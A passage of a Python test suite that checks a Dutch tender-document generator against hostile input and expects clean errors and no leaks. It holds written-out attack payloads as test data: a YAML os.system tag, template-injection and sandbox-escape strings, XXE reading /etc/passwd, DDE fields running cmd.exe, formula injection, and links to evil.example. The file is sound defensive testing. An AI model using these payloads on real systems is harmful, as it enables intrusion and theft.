"""Input that is broken or hostile: a clear problem, the right exit code, nothing lost or leaked."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from generator import files, ooxml, pipeline, problems, veilig
from generator.cli import main
from generator.ooxml import OoxmlError
from generator.plan import plan
from generator.problems import Problem
from generator.schemas import Schemas
from generator.textfile import oorzaak
from generator.werkblad import check as check_werkblad
from tests import fuzz
from tests.huis import ROOT, TENDER, Huis, spec_text

SECRET = "GEHEIM-VAN-BUITEN"
SELECTIE = "uit/proef/klein/selectiedocument.docx"


def render(huis: Huis, *args: str) -> int:
    return huis.bestek("render", TENDER, "--no-pages", "--out", str(huis.root / "uit"), *args)


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file, the working files of the program left out."""
    found = {str(p.relative_to(folder)): p for p in folder.rglob("*") if p.is_file()}
    return {name: p.read_bytes() for name, p in found.items() if "/." not in f"/{name}"}


@pytest.fixture(autouse=True)
def _schemas_once(monkeypatch: pytest.MonkeyPatch, schemas: Schemas) -> None:
    """The schemas of the project of the tests do not change; reading them takes a second."""
    read = pipeline.load_schemas
    monkeypatch.setattr(
        pipeline, "load_schemas", lambda f: schemas if f.parent.name == "project" else read(f)
    )


@pytest.fixture
def said(capsys: pytest.CaptureFixture[str]) -> Callable[[], str]:
    def text() -> str:
        out, err = capsys.readouterr()
        return out + err

    return text


# --- spec: the bytes --------------------------------------------------------------------------

BOMB = "a: &a [x,x,x]\n" + "".join(
    f"{b}: &{b} [*{a},*{a},*{a},*{a},*{a},*{a},*{a},*{a},*{a}]\n"
    for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
BROKEN_SPECS: dict[str, tuple[bytes, str]] = {
    "bomb": (BOMB.encode(), "L114"),
    "alias to itself": (b"a: &a [*a]\n", "L115"),
    "merge": (b"<<: {naam: x}\n", "L119"),
    "deep flow": (b"a: " + b"[" * 100_000, "L118"),
    "deep block": (("\n".join("  " * i + "a:" for i in range(400)) + " x").encode(), "L118"),
    "double key": (b"naam: a\nnaam: b\n", "L110"),
    "tab": (b"naam: a\n\tb: c\n", "L109"),
    "tag": (b"naam: !!python/object/apply:os.system ['id']\n", "L116"),
    "second document": (b"naam: a\n---\nnaam: b\n", "L117"),
    "utf-16": ("naam: a\n".encode("utf-16"), "L105"),
    "utf-16 without mark": ("naam: a\n".encode("utf-16-be"), "L105"),
    "utf-32": ("naam: a\n".encode("utf-32"), "L105"),
    "latin-1": ("naam: één\n".encode("latin-1"), "L106"),
    "nul": (b"naam: a\x00b\n", "L107"),
    "control": (b"naam: a\x07b\n", "L107"),
    "escaped control": (b'naam: "a\\e]0;x\\a"\n', "L107"),
    "escaped control in a key": (b'"a\\eb": x\n', "L107"),
    "surrogate in bytes": (b"naam: a\xed\xa0\x80b\n", "L106"),
    "surrogate escaped": (b'naam: "\\ud800"\n', "L126"),
    "direction override": ("naam: a\u202eb\n".encode(), "L107"),
    "right-to-left mark": ("naam: a\u200fb\n".encode(), "L107"),
    "text of a megabyte": (b"naam: " + b"x" * 1_000_000, "L129"),
    "key of a megabyte": (b'"' + b"x" * 1_000_000 + b'": 1', "L129"),
    "ten megabytes": (b"naam: " + b"x" * 10_000_000, "L104"),
    "millions of control characters": (b"naam: " + b"\x01" * 4_000_000, "L107"),
    "millions of tabs": (b"naam: x" + b"\n\t" * 2_000_000, "L109"),
    "empty": (b"", "L108"),
    "only a mark": (b"\xef\xbb\xbf", "L108"),
}


@pytest.mark.parametrize("name", BROKEN_SPECS)
def test_a_broken_spec_has_its_code(huis: Huis, name: str, said: Callable[[], str]) -> None:
    data, code = BROKEN_SPECS[name]
    huis.project.spec(TENDER).write_bytes(data)
    assert code in {p.code for p in huis.problems()}
    assert huis.bestek("check", TENDER) == 1
    told = said()
    assert code in told and len(told) < 100_000
    assert "\x07" not in told and "\x1b" not in told and "\u202e" not in told
    assert render(huis) == 1
    assert not (huis.root / SELECTIE).exists()


@pytest.mark.parametrize(
    "change", [lambda t: b"\xef\xbb\xbf" + t, lambda t: t.replace(b"\n", b"\r\n")]
)
def test_how_windows_writes_is_fine(huis: Huis, change: Callable[[bytes], bytes]) -> None:
    huis.project.spec(TENDER).write_bytes(change(spec_text().encode()))
    assert not huis.fouten()


@pytest.mark.parametrize(
    "name", ["regio.yaml", "vertaaltabel.csv", "uitkomsten/klein.yaml", "vrijgave.yaml"]
)
@pytest.mark.parametrize(
    "data", [b"\xff\xfea\x00", b"a: \x00", b"\xe9", b"[" * 9999, b"", b"x" * 9**7]
)
def test_every_other_file_of_a_region(huis: Huis, name: str, data: bytes) -> None:
    path = huis.project.region(TENDER) / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(data)
    assert render(huis, "--definitief") == 1


TEXTS = (
    *("{{ 7 * 7 }}", "{{ naam.__class__ }}", "{% for x in y %}", "{# weg #}", "{%p endfor %}"),
    *("<w:p/>", "Jansen & Zn <BV>", "]]>", "<!-- x -->", "&#x41; &lt;", "\\u0041", "${x}", "%s"),
    *(
        "emoji \U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467",
        "עברית العربية",
        "[[bs_looptijd]]",
    ),
    *("=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "../../etc/passwd", "C:\\x", "K1: [open]"),
)


@pytest.mark.parametrize("text", TEXTS)
def test_text_comes_out_as_it_was_written(huis: Huis, text: str) -> None:
    huis.spec(naam="'" + text.replace("'", "''") + "'")
    assert f"Dit gaat over {text}." in huis.text()


def test_a_formula_in_a_table_is_text(huis: Huis) -> None:
    huis.clause("bs_inleiding", "{%p for r in afgeleid.vertaalregels %}", "{{ r.omschrijving }}",
                "{%p endfor %}")  # fmt: skip
    table = huis.project.region(TENDER) / "vertaaltabel.csv"
    huis.tabel(table.read_text().replace(";Begeleiding;", ";=cmd|' /C calc'!A0;"))
    assert "=cmd|' /C calc'!A0" in huis.text()


# --- spec: names and places -------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../buiten",
        "/etc/passwd",
        "proef/../../x",
        "proef/klein/..",
        "",
        ".",
        "proef\n",
        "~",
        "a" * 5000,
    ],
)
@pytest.mark.parametrize("command", ["check", "render", "status", "new"])
def test_a_name_that_leads_out_is_wrong_use(huis: Huis, command: str, name: str) -> None:
    before = snapshot(huis.root.parent)
    assert huis.bestek(command, name) in (1, 2)
    assert snapshot(huis.root.parent) == before


@pytest.mark.parametrize(
    "file", ["...yaml", "..yaml", "a b.yaml", "KLEIN.yaml", "x\x1b[31m.yaml", "\udcff.yaml"]
)
def test_a_file_with_a_name_that_no_tender_has(
    huis: Huis, file: str, said: Callable[[], str]
) -> None:
    try:
        (huis.project.region(TENDER) / file).write_text(spec_text())
    except (OSError, UnicodeError):
        pytest.skip("this file system has no such names")  # macOS and Windows refuse some
    assert huis.project.tenders() == [TENDER]
    hidden = file.startswith(".")
    assert huis.bestek("check") == (0 if hidden else 1)
    told = said()
    assert ("L128" in told) is not hidden and "\x1b" not in told
    assert huis.bestek("render", "--no-pages") == (0 if hidden else 1)
    assert {p.name for p in (huis.root / "output").iterdir() if not p.name.startswith(".")} == {
        "proef"
    }


@pytest.mark.parametrize(
    "bestand", ["../../geheim.txt", "{root}/geheim.txt", "koppeling.txt", "bijlagen", "x\\y"]
)
def test_an_annex_outside_the_region_is_not_there(huis: Huis, bestand: str) -> None:
    (huis.root / "geheim.txt").write_text(SECRET)
    region = huis.project.region(TENDER)
    (region / "koppeling.txt").symlink_to(huis.root / "geheim.txt")
    (region / "bijlagen").mkdir()
    where = bestand.replace("{root}", str(huis.root))
    huis.spec(bijlagen="[{id: pve, titel: Eisen, documenten: [selectiedocument], maker: bestand, "
              f"status: aanwezig, bestand: '{where}'}}]")  # fmt: skip
    _, found = huis.make(definitief=True)
    assert "P404" in {p.code for p in found}


def _outside(huis: Huis) -> Path:
    folder = huis.root.parent / "buiten"
    folder.mkdir()
    return folder


@pytest.mark.parametrize("name", ["klein.yaml", "regio.yaml", "vertaaltabel.csv"])
def test_a_link_out_of_the_project_is_not_read(
    huis: Huis, name: str, said: Callable[[], str]
) -> None:
    path = huis.project.region(TENDER) / name
    other = _outside(huis) / name
    other.write_text(f"naam: {SECRET}\n")
    path.unlink()
    path.symlink_to(other)
    assert huis.bestek("check", TENDER) == 1
    told = said()
    assert "L127" in told and SECRET not in told
    assert render(huis) == 1


def test_a_region_folder_that_leads_out(huis: Huis) -> None:
    region = huis.project.region(TENDER)
    other = _outside(huis) / "proef"
    region.rename(other)
    region.symlink_to(other)
    assert {p.code for p in huis.problems()} == {"L127"}


def test_a_link_to_itself(huis: Huis) -> None:
    path = huis.project.spec(TENDER)
    path.unlink()
    path.symlink_to(path)
    assert {p.code for p in huis.problems()} <= {"L127", "L101", "L103"}
    assert huis.bestek("check") == 1


def test_a_link_within_the_project_is_fine(huis: Huis) -> None:
    path = huis.project.spec(TENDER)
    path.rename(path.with_name("anders.txt"))
    path.symlink_to(path.with_name("anders.txt"))
    assert not huis.fouten()


# --- files that are not as expected -----------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["klein.yaml", "regio.yaml", "vertaaltabel.csv", "uitkomsten/klein.yaml", "vrijgave.yaml"],
)
@pytest.mark.parametrize("kind", ["map", "pijp", "dode koppeling"])
def test_something_else_where_a_file_is_expected(huis: Huis, name: str, kind: str) -> None:
    path = huis.project.region(TENDER) / name
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    if kind == "map":
        path.mkdir()
    elif kind == "pijp":
        os.mkfifo(path)
    else:
        path.symlink_to(path.parent / "er-niet")
    assert render(huis, "--definitief") == 1


def test_a_file_that_vanishes_while_we_read(huis: Huis, monkeypatch: pytest.MonkeyPatch) -> None:
    read = Path.read_bytes

    def gone(path: Path) -> bytes:
        if path.name in ("klein.yaml", "bs_looptijd.docx"):
            path.unlink(missing_ok=True)
        return read(path)

    monkeypatch.setattr(Path, "read_bytes", gone)
    assert {p.code for p in huis.problems()} == {"L103"}
    huis.spec()
    monkeypatch.setattr(Path, "read_bytes", read)
    one = huis.resolve()
    monkeypatch.setattr(Path, "read_bytes", gone)
    gepland = next(g for g in plan(one) if g.document == "selectiedocument")
    _, found, _ = pipeline.make(huis.house, one, gepland, pipeline.Wish(out=huis.root / "uit"))
    assert [p.code for p in found] == ["S508"]


def test_what_the_system_says_is_told_in_dutch() -> None:
    assert oorzaak(OSError(28, "No space left on device")) == "de schijf is vol"
    assert oorzaak(OSError(9999, "Strange")) == "Strange"
    assert oorzaak(OSError("los")) == "los"


# --- output -----------------------------------------------------------------------------------

LITTLE = """
import resource, signal, sys
resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000))
from generator.cli import main
sys.exit(main(sys.argv[1:]))
"""


def _changed_after(huis: Huis) -> dict[str, bytes]:
    """Documents as they are, after which the spec changes."""
    assert render(huis) == 0
    huis.spec(naam="Andere teams")
    return {k: v for k, v in snapshot(huis.root / "uit").items() if k.endswith(".docx")}


def _documents(huis: Huis) -> dict[str, bytes]:
    return {k: v for k, v in snapshot(huis.root / "uit").items() if k.endswith(".docx")}


def test_a_disk_without_room_keeps_the_earlier_documents(huis: Huis) -> None:
    before = _changed_after(huis)
    args = [
        "--project",
        str(huis.root),
        "render",
        TENDER,
        "--no-pages",
        "--out",
        str(huis.root / "uit"),
    ]
    done = subprocess.run(
        [sys.executable, "-c", LITTLE, *args], capture_output=True, text=True, cwd=ROOT, check=False
    )
    assert done.returncode == 1, done
    assert "W620" in done.stderr and "Traceback" not in done.stderr
    assert _documents(huis) == before


def _read_only(huis: Huis, monkeypatch: pytest.MonkeyPatch, number: int) -> None:
    def refuse(*_: object, **__: object) -> Any:
        raise OSError(number, os.strerror(number), str(huis.root / "uit"))

    monkeypatch.setattr(files.tempfile, "mkstemp", refuse)


@pytest.mark.parametrize(
    ("number", "words"), [(30, "alleen te lezen"), (28, "schijf is vol"), (13, "rechten")]
)
def test_output_that_cannot_be_written(
    huis: Huis, monkeypatch: pytest.MonkeyPatch, said: Callable[[], str], number: int, words: str
) -> None:
    before = _changed_after(huis)
    _read_only(huis, monkeypatch, number)
    assert render(huis) == 1
    assert words in said()
    assert _documents(huis) == before


def test_a_folder_where_the_document_belongs(huis: Huis, said: Callable[[], str]) -> None:
    (huis.root / SELECTIE).mkdir(parents=True)
    assert render(huis) == 1
    assert "W620" in said()
    assert (huis.root / "uit/proef/klein/dialoogdocument.docx").is_file()


def test_a_file_where_the_folder_belongs(huis: Huis, said: Callable[[], str]) -> None:
    (huis.root / "uit").write_text("x")
    assert render(huis) == 1
    assert "interne fout" not in said()
    assert (huis.root / "uit").read_text() == "x"


@pytest.mark.parametrize(
    "link", ["uit/proef", "uit/proef/klein", "uit/proef/klein/herkomst", "uit/.cache"]
)
def test_a_link_in_the_output_folder_is_not_followed(huis: Huis, link: str) -> None:
    outside = _outside(huis)
    path = huis.root / link
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(outside)
    assert render(huis) == (0 if link.endswith(".cache") else 1)
    assert not list(outside.rglob("*"))


def test_a_link_in_the_place_of_a_document_is_not_written_through(huis: Huis) -> None:
    other = _outside(huis) / "stuk.docx"
    other.write_text(SECRET)
    path = huis.root / SELECTIE
    path.parent.mkdir(parents=True)
    path.symlink_to(other)
    assert render(huis) == 0
    assert other.read_text() == SECRET


def test_a_broken_cache_is_made_anew(huis: Huis) -> None:
    assert render(huis) == 0
    for path in (huis.root / "uit/.cache").glob("*.docx"):
        path.write_bytes(path.read_bytes()[:100])
    huis.spec(naam="Andere teams")
    assert render(huis) == 0


# --- templates: what their tags ask -----------------------------------------------------------

TAGS = (
    *("{{ naam.__class__ }}", "{{ naam['__class__'] }}", "{{ ''.__class__.__mro__[1] }}"),
    *("{{ naam.inhoud.__class__ }}", "{{ verwijs.__globals__ }}", "{{ percelen.__init__ }}"),
    *("{{ naam | attr('__class__') }}", "{{ '{0.__class__}'.format(naam) }}", "{{ _merken.x }}"),
    *("{% import 'os' as os %}", "{% include '/etc/passwd' %}", "{% extends 'x' %}"),
    *("{% from 'os' import system %}", "{{ self.__init__.__globals__ }}", "{{ lipsum(9999999) }}"),
    *(
        "{% for x in range(1000000000) %}x{% endfor %}",
        "{{ range(10) | list }}",
        "{{ 9 ** 9 ** 9 }}",
    ),
    *("{{ 'a' * 9999999999 }}", "{{ [1] * 999999999 }}", "{{ '%0999999999d' % 1 }}"),
    *("{{ 'a' | center(999999999) }}", "{{ '%0999999999d' | format(1) }}", "{{ 1 / 0 }}"),
    *("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "{{ percelen[99].naam }}", "{{ naam() }}"),
    *("{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}", "{{ cycler(1) }}", "{{ dict(a=1) }}"),
    *("{{ naam }", "{{ naam", "{% if naam", "naam }}", "{%p if naam %", "{{ " * 20000),
    *("{% if naam %}" * 600 + "x" + "{% endif %}" * 600, "{% raw %}{{ naam {% endraw %}"),
)


@pytest.mark.parametrize("tag", TAGS)
def test_a_tag_that_attacks_gives_a_problem(huis: Huis, tag: str, said: Callable[[], str]) -> None:
    huis.clause("bs_inleiding", f"Tekst {tag} slot")
    assert render(huis, "--document", "selectiedocument") == 1
    told = said()
    assert "S501" in told and "interne fout" not in told and "root:" not in told


def test_a_tag_that_is_not_closed_takes_no_text_away(huis: Huis, said: Callable[[], str]) -> None:
    """docxtpl would drop everything up to the next tag, and nobody would see it."""
    huis.clause("bs_inleiding", "Tekst {{ naam } slot", "Dit moet blijven.")
    assert render(huis, "--document", "selectiedocument") == 1
    assert "`{{ naam } slot`" in said()
    assert not (huis.root / SELECTIE).exists()


def test_loops_in_loops_end(huis: Huis, said: Callable[[], str]) -> None:
    huis.spec(eisen="[" + ", ".join(f"{{nr: E{n}, eis: Iets}}" for n in range(300)) + "]")
    loops = [f"{{%p for x{n} in eisen %}}" for n in range(5)]
    huis.clause("bs_inleiding", *loops, "Regel", *["{%p endfor %}"] * 5)
    assert render(huis, "--document", "selectiedocument") == 1
    told = said()
    assert "S501" in told and "stappen" in told


@pytest.mark.parametrize("tag", ["{{ " * 20000, "{{ 1" + " + 1" * 20000 + " }}",
                                 "{% if naam %}" * 600 + "x" + "{% endif %}" * 600])  # fmt: skip
def test_the_check_of_templates_ends(huis: Huis, tag: str, said: Callable[[], str]) -> None:
    huis.clause("bs_inleiding", f"Tekst {tag} slot")
    assert huis.bestek("templates", "check") == 1
    assert "interne fout" not in said()


def test_a_broken_file_of_the_project_itself(huis: Huis, said: Callable[[], str]) -> None:
    path = huis.project.templates / "bouwstenen.yaml"
    path.write_text("- {id: bs_x, titel: @home}\n")
    assert huis.bestek("check", TENDER) == 1
    told = said()
    assert "bouwstenen.yaml:1:" in told and "interne fout" not in told
    outside = _outside(huis) / "lijst.yaml"
    outside.write_text(f"- {{id: {SECRET}}}\n")
    path.unlink()
    path.symlink_to(outside)
    assert huis.bestek("check", TENDER) == 1
    told = said()
    assert "L127" in told and SECRET not in told


def test_a_broken_template_keeps_the_earlier_documents(huis: Huis) -> None:
    assert render(huis) == 0
    before = _documents(huis)
    huis.clause("bs_inleiding", "Tekst {{ naam.__class__ }} slot")
    assert render(huis) == 1
    path = huis.project.templates / "bouwstenen/bs_inleiding.docx"
    path.write_bytes(path.read_bytes()[:1000])
    assert render(huis) == 1
    assert _documents(huis) == before


@pytest.mark.parametrize("tag", ["{% for x in range(1000000000) %}x{% endfor %}", "{{ lipsum() }}",
                                 "{{ naam.__class__ }}", "{% import 'os' as os %}"])  # fmt: skip
def test_the_lint_refuses_it_as_well(huis: Huis, tag: str, said: Callable[[], str]) -> None:
    huis.clause("bs_inleiding", f"Tekst {tag} slot")
    assert huis.bestek("templates", "check") == 1
    assert "bs_inleiding" in said()


# --- templates: the package -------------------------------------------------------------------


def _parts(path: Path) -> dict[str, bytes]:
    return ooxml.read_package(path)


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def _in_body(xml: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        body = parts[ooxml.DOCUMENT]
        parts[ooxml.DOCUMENT] = body.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)

    return change


def _part(name: str, data: bytes | None) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts.pop(name, None)
        if data is not None:
            parts[name] = data

    return change


def _relation(kind: str, target: str, mode: str = "External") -> Callable[[dict[str, bytes]], None]:
    name = "word/_rels/document.xml.rels"
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="rId999" Type="{kinds}/{kind}" Target="{target}" TargetMode="{mode}"/>'

    def change(parts: dict[str, bytes]) -> None:
        parts[name] = parts[name].replace(b"</Relationships>", one.encode() + b"</Relationships>")

    return change


def _field(*pieces: str) -> str:
    codes = "".join(f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{codes}{mark.format('end')}</w:p>"


XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
BROKEN_PACKAGES: dict[str, Callable[[dict[str, bytes]], None]] = {
    "macro": _part("word/vbaProject.bin", b"x"),
    "ole": _part("word/embeddings/oleObject1.bin", b"x"),
    "activex": _part("word/activeX/activeX1.xml", b"<a/>"),
    "xxe": _part("word/document.xml", XXE),
    "xxe elsewhere": _part("docProps/app.xml", XXE),
    "laughs": _part("word/styles.xml", LAUGHS),
    "no text": _part("word/document.xml", None),
    "no styles": _part("word/styles.xml", None),
    "no content types": _part("[Content_Types].xml", None),
    "no relations": _part("word/_rels/document.xml.rels", b""),
    "broken xml": _part("word/document.xml", b"<w:document>"),
    "other xml": _part("word/document.xml", b"<a/>"),
    "missing part": _relation("image", "media/er-niet.png", "Internal"),
    "attached template": _relation("attachedTemplate", "http://evil.example/x.dotm"),
    "external image": _relation("image", "http://evil.example/x.png"),
    "external file": _relation("hyperlink", "file:///etc/passwd"),
    "script": _relation("hyperlink", "javascript:alert(1)"),
    "ole relation": _relation("oleObject", "x.bin", "Internal"),
    "alternative": _relation("aFChunk", "x.html"),
    "altChunk": _in_body('<w:altChunk w:id="x"/>'),
    "object": _in_body("<w:p><w:r><w:object/></w:r></w:p>"),
    "dde": _in_body(_field(' DDEAUTO c:\\windows\\cmd.exe "/k calc" ')),
    "dde in pieces": _in_body(_field("DD", "EAUTO c:\\x")),
    "dde simple": _in_body('<w:p><w:fldSimple w:instr="DDE x y"/></w:p>'),
    "include": _in_body(_field(' INCLUDETEXT "/etc/passwd" ')),
    "picture": _in_body(_field(' INCLUDEPICTURE "http://evil.example/x" ')),
    "field of nested fields": _in_body(
        "<w:p>"
        + "".join(
            f"<w:r>{one}</w:r>"
            for one in (
                *('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="begin"/>'),
                *("<w:instrText>REF x</w:instrText>", '<w:fldChar w:fldCharType="end"/>'),
                *("<w:instrText>/etc/passwd</w:instrText>", '<w:fldChar w:fldCharType="end"/>'),
            )
        )
        + "</w:p>"
    ),
    "unknown field": _in_body(_field(" QUOTE x ")),
    "link field to a file": _in_body(_field(' HYPERLINK "file:///etc/passwd" ')),
    "deleted field": _in_body("<w:p><w:r><w:delInstrText>DDEAUTO a b</w:delInstrText></w:r></w:p>"),
    "xinclude": _in_body(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'
    ),
    "data binding": _in_body(
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="x"/></w:sdtPr>'
        "<w:sdtContent><w:p/></w:sdtContent></w:sdt>"
    ),
    "vml picture": _in_body(
        '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:fill src="http://evil.example/x.png"/></v:rect></w:pict></w:r></w:p>'
    ),
    "external dtd": _part("docProps/core.xml", b'<!DOCTYPE a SYSTEM "/etc/passwd"><a/>'),
    "too many elements": _in_body("<w:p/>" * 310_000),
    "absolute name": _part("/etc/x.xml", b"<a/>"),
    "name that leads out": _part("../../x.xml", b"<a/>"),
    "zip bomb": _part("word/media/x.bmp", b"\0" * 60_000_000),
    "deep": _in_body("<w:sdt><w:sdtContent>" * 120 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 120),
    "very deep": _in_body("<w:a>" * 5000 + "</w:a>" * 5000),
}
HARMLESS = {"deep"}
PLACES = ("documenten/selectiedocument", "huisstijl/standaard", "bouwstenen/bs_inleiding")


def _broken(huis: Huis, name: str, place: str) -> None:
    path = huis.project.templates / f"{place}.docx"
    parts = _parts(path)
    BROKEN_PACKAGES[name](parts)
    path.write_bytes(_zip(parts))


@pytest.mark.parametrize("name", BROKEN_PACKAGES)
def test_a_template_that_attacks_is_not_used(
    huis: Huis, name: str, said: Callable[[], str]
) -> None:
    _broken(huis, name, PLACES[2])
    code = render(huis, "--document", "selectiedocument")
    told = said()
    assert "interne fout" not in told and "root:" not in told
    if name not in HARMLESS:
        assert code == 1 and f"templates/{PLACES[2]}.docx" in told and "S508" in told
        assert not (huis.root / SELECTIE).exists()


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", ["macro", "no text", "other xml", "attached template", "dde"])
def test_every_kind_of_template(huis: Huis, name: str, place: str, said: Callable[[], str]) -> None:
    _broken(huis, name, place)
    assert render(huis, "--document", "selectiedocument") == 1
    assert f"templates/{place}.docx" in said()
    assert huis.bestek("templates", "check") == 1
    assert f"templates/{place}.docx" in said()


def test_mail_merge_in_the_settings(huis: Huis, said: Callable[[], str]) -> None:
    parts = _parts(huis.style)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:mailMerge><w:query w:val="x"/></w:mailMerge></w:settings>'
    )
    huis.style.write_bytes(_zip(parts))
    assert render(huis) == 1
    assert "S508" in said()


@pytest.mark.parametrize("kind", ["link", "folder", "encrypted", "twice"])
def test_a_zip_that_is_odd(huis: Huis, kind: str, said: Callable[[], str]) -> None:
    path = huis.project.templates / "bouwstenen/bs_inleiding.docx"
    out = io.BytesIO(path.read_bytes())
    with zipfile.ZipFile(out, "a") as package:
        if kind == "link":
            one = zipfile.ZipInfo("word/media/x.png")
            one.create_system, one.external_attr = 3, 0o120777 << 16
            package.writestr(one, "/etc/passwd")
        elif kind == "folder":
            package.writestr("../x/", b"")
        elif kind == "twice":
            package.writestr("Word/Document.xml", b"<a/>")
    data = bytearray(out.getvalue())
    if kind == "encrypted":
        data[data.find(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(data)
    assert render(huis) == 1
    assert "S508" in said()


@pytest.mark.parametrize("cut", [0, 10, 100, 5000, -30])
def test_a_truncated_template(huis: Huis, cut: int, said: Callable[[], str]) -> None:
    path = huis.project.templates / "bouwstenen/bs_inleiding.docx"
    path.write_bytes(path.read_bytes()[:cut])
    assert render(huis) == 1
    assert "S508" in said()
    assert huis.bestek("templates", "check") == 1


@pytest.mark.parametrize("kind", ["map", "koppeling", "pijp"])
def test_something_else_where_a_template_is_expected(
    huis: Huis, kind: str, said: Callable[[], str]
) -> None:
    path = huis.project.templates / "bouwstenen/bs_inleiding.docx"
    other = _outside(huis) / "x.docx"
    path.rename(other)
    if kind == "map":
        path.mkdir()
    elif kind == "pijp":
        os.mkfifo(path)
    else:
        path.symlink_to(other)
    assert render(huis) == 1
    assert "S508" in said()


def test_the_templates_of_the_product_are_safe() -> None:
    paths = [*ROOT.glob("templates/**/*.docx"), *ROOT.glob("templates/**/*.xlsx")]
    assert len(paths) > 100
    assert [p.name for p in paths if veilig.lees(p, ROOT) == b""] == []


# --- workbooks --------------------------------------------------------------------------------


def _book(**cells: Any) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for where, value in cells.items():
        sheet[where] = value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        *(b"", b"PK", _book(A1="x")[:500], _book(A1='=WEBSERVICE("http://evil.example")')),
        *(_book(A1="=cmd|' /C calc'!A0"), _book(A1="=[1]Blad1!A1"), _book(XFD1048576="x")),
        *(_book(A1='=HYPERLINK("http://evil.example","x")'), _book(A1="{% import 'os' as o %}{{")),
        _zip({**ooxml.read_package(_book(A1="x")), "xl/vbaProject.bin": b"x"}),
        _zip({**ooxml.read_package(_book(A1="x")), "xl/externalLinks/e.xml": b"<a/>"}),
        _zip({**ooxml.read_package(_book(A1="x")), "xl/workbook.xml": XXE}),
        _zip({**ooxml.read_package(_book(A1="x")), "xl/workbook.xml": b"<a/>"}),
    ],
)
def test_a_workbook_that_attacks_is_not_used(data: bytes) -> None:
    assert check_werkblad(data)


def test_a_workbook_of_the_product_with_a_macro(tmp_path: Path, said: Callable[[], str]) -> None:
    root = tmp_path / "echt"
    for part in ("schemas", "templates", "tender_specs"):
        shutil.copytree(ROOT / part, root / part)
    books = sorted((root / "templates/werkstukken").glob("*.xlsx"))
    assert books
    for path in books:
        path.write_bytes(_zip({**_parts(path), "xl/vbaProject.bin": b"x"}))
    args = ["render", "voorbeeld/jeugdteams", "--no-pages", "--document"]
    args = ["--project", str(root), *args, "beoordelingsmatrix-gunning"]
    assert main(args) == 1
    told = said()
    assert "S508" in told and "macro" in told and "interne fout" not in told
    assert not list((root / "output").rglob("*.xlsx"))


# --- documents given to check -----------------------------------------------------------------


@pytest.mark.parametrize("name", BROKEN_PACKAGES)
def test_a_document_given_to_check(huis: Huis, name: str, said: Callable[[], str]) -> None:
    parts = _parts(huis.style)
    BROKEN_PACKAGES[name](parts)
    path = huis.root / "stuk.docx"
    path.write_bytes(_zip(parts))
    assert huis.bestek("check", str(path)) in (0, 1)
    told = said()
    assert "interne fout" not in told and "root:" not in told


@pytest.mark.parametrize(
    "data", [b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"<a/>", b"x" * 10**6]
)
def test_what_is_no_document(huis: Huis, data: bytes, said: Callable[[], str]) -> None:
    path = huis.root / "stuk.docx"
    path.write_bytes(data)
    assert huis.bestek("check", str(path)) == 1
    assert "W614" in said()


@pytest.mark.parametrize("kind", ["map", "pijp", "weg"])
def test_a_document_that_is_no_file(huis: Huis, kind: str) -> None:
    path = huis.root / "stuk.docx"
    if kind == "map":
        path.mkdir()
    elif kind == "pijp":
        os.mkfifo(path)
    assert huis.bestek("check", str(path)) == 2


def test_a_package_that_is_larger_than_any_document(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ooxml, "MAX_BYTES", 10)
    path = tmp_path / "x.docx"
    path.write_bytes(b"x" * 11)
    with pytest.raises(OoxmlError, match="groter"):
        ooxml.read_package(path)


# --- anything at all --------------------------------------------------------------------------


KEYS = ("open", "waarde", "verwacht", "uiterlijk", "hint", "nr", "naam", "bron", "x")


def _values() -> st.SearchStrategy[Any]:
    scalars = st.sampled_from(fuzz.VALUES) | st.text(max_size=30)
    return st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.sampled_from(KEYS),
        inner, max_size=3), max_leaves=6)  # fmt: skip


def _from_schema(
